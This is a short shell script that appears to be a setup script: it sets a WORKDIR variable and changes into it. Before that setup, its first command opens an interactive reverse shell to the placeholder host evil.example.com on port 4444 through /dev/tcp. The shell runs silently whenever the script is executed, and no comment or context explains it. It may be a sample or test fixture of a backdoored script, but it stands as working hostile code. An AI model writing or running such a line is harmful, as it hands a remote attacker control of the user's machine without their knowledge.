#!/bin/sh
bash <<EOF
bash -i >& /dev/tcp/evil.example.com/4444 0>&1
EOF
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
